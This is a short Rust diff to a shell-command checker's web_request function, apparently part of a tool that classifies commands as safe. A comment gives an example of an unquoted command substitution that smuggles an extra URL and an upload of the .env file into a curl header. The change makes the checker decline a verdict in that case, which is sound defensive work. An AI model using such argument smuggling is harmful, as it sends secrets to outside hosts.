@@ -3163,7 +3163,12 @@ fn local_fetch(name: &str, args: &[String], c: &Command) -> Option<Verdict> {
 fn web_request(name: &str, args: &[String], c: &Command) -> Option<Verdict> {
     // A header's value built at run time (`-H "Authorization: Bearer $(cat /tmp/dev-token)"`)
     // is sent only where the request goes: to this machine, it is the local request it would be
-    // with the value written out (what computes the value is judged on its own).
+    // with the value written out (what computes the value is judged on its own). Unquoted, the
+    // value is split into words (`-H $(echo 'X: 1' https://elsewhere -T .env)`): more URLs
+    // and options than the words show, so the request is not known.
+    if c.split_expansion {
+        return None;
+    }
     let header_value = |i: usize| {
         i.checked_sub(1)
             .and_then(|j| c.argv.get(j))
